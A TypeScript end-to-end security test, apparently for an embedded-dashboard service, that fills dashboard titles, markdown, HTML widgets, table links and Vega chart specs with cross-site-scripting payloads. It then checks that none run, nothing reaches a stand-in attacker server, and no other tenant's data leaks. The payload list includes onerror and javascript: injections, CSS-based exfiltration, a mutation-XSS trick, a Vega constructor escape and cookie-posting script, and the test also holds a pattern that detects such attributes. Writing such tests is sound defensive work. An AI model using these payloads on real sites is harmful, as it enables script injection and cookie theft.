import assert from 'node:assert/strict';
import type { TestContext } from 'node:test';
import type { Page } from 'puppeteer-core';
import type { BrowserUnderTest } from './browser.ts';
import { type EmbeddedDashboards, openHostPage, openSite } from './embedded-dashboards-under-test.ts';
import { isEventStream, settled } from './event-stream-of-page.ts';
import { api } from './model-under-test.ts';
import type { Json } from './server-under-test.ts';

const MARKER = 'secret0of0globex';

/** A creator who puts hostile content into everything that they may write, and looks at it in the frame of the host. */
export async function testAttack(
  t: TestContext,
  boards: EmbeddedDashboards,
  browser: BrowserUnderTest,
): Promise<void> {
  const { server, deploymentId } = boards;
  const base = `/embed/d/${deploymentId}/app`;
  const reached: string[] = [];
  const evil = await openSite(t, ({ url }, response) => {
    reached.push(String(url));
    response.setHeader('access-control-allow-origin', '*').end('owned = 1');
  });
  const sessionOf = (customer: string) => boards.newSession(customer, { creatorMode: true });
  const as = async (customer: string) => {
    const sessionId = await sessionOf(customer);
    const { token } = await server.ok('POST', '/api/v1/embed/session/token', { sessionId });
    return (method: string, path: string, body?: object): Promise<{ status: number; body: Json }> =>
      server.call(method, api(deploymentId, path), { key: token, ...(body === undefined ? {} : { body }) });
  };

  await t.test('no script runs, nothing leaves, and the host page stays as it is', async () => {
    const globex = await as('globex');
    const [name, sqlQuery] = ['Same', 'SELECT MEASURE(revenue) AS revenue FROM sales'];
    await globex('POST', '/reports', { name, sqlQuery, description: MARKER });
    await globex('POST', '/workbooks', { name: MARKER });

    const acme = await as('acme');
    const { body: book } = await acme('POST', '/workbooks', { name: titleOf(evil) });
    const widgets = [...hostileTexts(evil)];
    let refused = 0;
    for (const [index, meta] of hostileReports(evil).entries()) {
      const report = { name: titleOf(evil), description: titleOf(evil), sqlQuery: BY_REGION, meta };
      const { status, body } = await acme('POST', '/reports', report);
      if (status === 200)
        widgets.push({
          id: `chart-${index}`,
          type: 'CHART',
          config: { reportId: body.id, title: titleOf(evil) },
        });
      else refused += 1;
    }
    assert.ok(refused < hostileReports(evil).length, 'some of it is accepted, and only shown');
    const config = {
      title: titleOf(evil),
      description: titleOf(evil),
      theme: {
        primaryColor: `red;} body{background:url(${evil}/theme)}`,
        fontFamily: `x;background:url(${evil}/font)`,
      },
      widgets: widgets.map((widget, index) => ({ position: { x: 0, y: index * 4, w: 12, h: 4 }, ...widget })),
    };
    const saved = await acme('PUT', `/workbooks/${book.id}/dashboard`, { dashboardDraft: config });
    assert.equal(saved.status, 200, JSON.stringify(saved.body));
    const publish = (body: object) =>
      acme('POST', `/workbooks/${book.id}/publish`, { workbookId: book.id, ...body });
    const broken = await publish({});
    assert.equal(broken.body.code, 'broken_widgets');
    const known = new Set(broken.body.widgets.map(({ widgetId }: Json) => widgetId));
    const published = await publish({
      config: { ...config, widgets: config.widgets.filter(({ id }: Json) => !known.has(id)) },
    });
    assert.equal(published.status, 200, JSON.stringify(published.body));
    // The draft still has all of them.
    await acme('PUT', `/workbooks/${book.id}/dashboard`, { dashboardDraft: config });

    const host = await openHostPage(t, browser, boards);
    const { page } = host;
    await page.evaluate(`document.cookie = 'host=secret'; localStorage.setItem('host', 'secret')`);
    const before = await page.evaluate('document.head.outerHTML + location.href');
    const told = await page.evaluateHandle(`(window.told = [], addEventListener('message', ({ data }) => {
      if (data?.source !== 'svc-embed') told.push(JSON.stringify(data));
    }), told)`);
    const answers = answersTo(page, server.url);
    for (const path of [
      '',
      `/workbook/${book.id}/dashboard`,
      `/dashboard/${published.body.publicId}`,
      '/shared',
    ]) {
      await host.open(`${base}${path}?session=${await sessionOf('acme')}`);
      await host.event('view');
      // Widgets are drawn when they are near the window.
      await page.$eval('iframe', (frame) => frame.setAttribute('style', 'width:100%;height:6000px;border:0'));
      await settled(page);
      const frame = await host.frame();
      assert.ok(frame.url().startsWith(server.url + base), frame.url());
      for (const each of page.frames()) assert.equal(await each.evaluate('window.owned'), undefined, path);
      assert.deepEqual(await frame.evaluate(FOUND), [], path);
      assert.equal(await frame.evaluate('document.cookie'), '');
      assert.equal(
        await frame.evaluate('JSON.stringify({ ...localStorage, ...sessionStorage }).includes("Embed")'),
        false,
      );
    }
    assert.equal(await page.evaluate('document.head.outerHTML + location.href'), before);
    assert.deepEqual(await told.jsonValue(), []);
    assert.deepEqual(reached, []);
    const all = (await answers()).join('\n');
    assert.match(all, /hostile/);
    assert.ok(!all.includes(MARKER) && !/globex|9000/.test(all), 'nothing of another customer arrives');
  });
  await boards.allow(null);
}

const BY_REGION = 'SELECT region, MEASURE(revenue) AS revenue FROM sales GROUP BY 1';
const RUN = 'owned=1;top.owned=1;parent.postMessage(document.cookie,"*")';

const titleOf = (evil: string) =>
  `hostile </title><img src=${evil}/title onerror="${RUN}"><script src=${evil}/title.js></script>`;

function htmlOf(evil: string): string {
  return `<h1 onclick="${RUN}">hostile {{region}}</h1><script>${RUN}</script><script src="${evil}/a.js"></script>
    <img src="${evil}/img" onerror="${RUN}"><img srcset="${evil}/set 1x"><svg onload="${RUN}"><use href="${evil}/use#a"/>
    <image href="${evil}/image"/><a xlink:href="javascript:${RUN}"><text>x</text></a><style>*{background:url(${evil}/svg)}</style></svg>
    <style>@import url(${evil}/import); [value^="a"]{background:url(${evil}/css)} *{color:red!important}</style>
    <link rel="stylesheet" href="${evil}/link"><link rel="prefetch" href="${evil}/prefetch"><base href="${evil}/">
    <meta http-equiv="refresh" content="0;url=${evil}/refresh"><iframe src="${evil}/frame" srcdoc="<script>${RUN}</script>"></iframe>
    <object data="${evil}/object"></object><embed src="${evil}/embed"><video src="${evil}/video" poster="${evil}/poster"></video>
    <form action="${evil}/form" target="_top"><input name="password" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Go</button></form>
    <div style="background-image:url(${evil}/style);position:fixed;inset:0;z-index:99999">over</div>
    <a href="javascript:${RUN}" target="_top">script</a><a href="data:text/html,<script>${RUN}</script>">data</a>
    <math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></style></mglyph></form></mtext></math>`;
}

function hostileTexts(evil: string): Json[] {
  const markdown = `hostile\n\n![x](${evil}/markdown) [x](javascript:${RUN}) [y](data:text/html,x)\n\n<${evil}/auto>\n\n${htmlOf(evil)}`;
  return [
    { id: 'text', type: 'TEXT', config: { title: titleOf(evil), markdown } },
    { id: 'line', type: 'DIVIDER', config: { title: titleOf(evil) } },
    { id: 'filter', type: 'FILTER', config: { member: 'sales.region', label: titleOf(evil) } },
  ];
}

function hostileReports(evil: string): object[] {
  const bar = {
    mark: 'bar',
    encoding: { x: { field: 'region' }, y: { field: 'revenue', type: 'quantitative' } },
  };
  const vega = (spec: object) => ({ kind: 'vega', spec });
  return [
    { kind: 'html', spec: { html: htmlOf(evil) } },
    {
      kind: 'kpi',
      spec: {
        blocks: [
          { type: 'number', column: 'revenue', label: titleOf(evil) },
          { type: 'html', html: htmlOf(evil) },
        ],
      },
    },
    {
      kind: 'table',
      spec: { columns: [{ column: 'region', title: titleOf(evil), link: `javascript:${RUN}//{region}` }] },
    },
    {
      kind: 'table',
      spec: {
        columns: [
          { column: 'region', link: `${evil}/{region}` },
          { column: 'revenue', image: true },
        ],
      },
    },
    vega({ ...bar, title: titleOf(evil) }),
    vega({ ...bar, data: { url: `${evil}/data` } }),
    vega({ mark: { type: 'image', url: `${evil}/mark` }, encoding: { x: bar.encoding.x } }),
    vega({ ...bar, mark: { type: 'bar', href: `javascript:${RUN}`, cursor: `url(${evil}/cursor)` } }),
    vega({ ...bar, encoding: { ...bar.encoding, href: { value: `javascript:${RUN}` } } }),
    vega({ ...bar, encoding: { ...bar.encoding, fill: { value: `url(${evil}/fill)` } } }),
    vega({
      ...bar,
      transform: [{ calculate: `'url(${evil}/' + datum.region + ')'`, as: 'c' }],
      encoding: { ...bar.encoding, color: { field: 'c', scale: null } },
    }),
    vega({ ...bar, transform: [{ calculate: '[].constructor.constructor("owned=1")()', as: 'c' }] }),
  ];
}

/** What has no place in a page that shows the content of somebody else. */
const FOUND = `[...document.querySelectorAll('*')].flatMap((element) => {
  const found = [...element.attributes].filter(({ name, value }) =>
    /^on/.test(name) || /javascript:|^data:text/i.test(value) && /href|src|action/.test(name)).map(({ name }) => name);
  if (element.matches('object, embed, base, iframe, form[action], meta[http-equiv=refresh]'))
    found.push(element.tagName);
  return found.length === 0 ? [] : [element.outerHTML.slice(0, 200)];
})`;

/** What the pages are answered by the API. */
function answersTo(page: Page, facet: string): () => Promise<string[]> {
  const answers: Promise<string>[] = [];
  page.on('response', (response) => {
    const url = response.url();
    if (url.startsWith(`${facet}/api/`) && !isEventStream(url)) answers.push(response.text().catch(() => ''));
  });
  return () => Promise.all(answers);
}
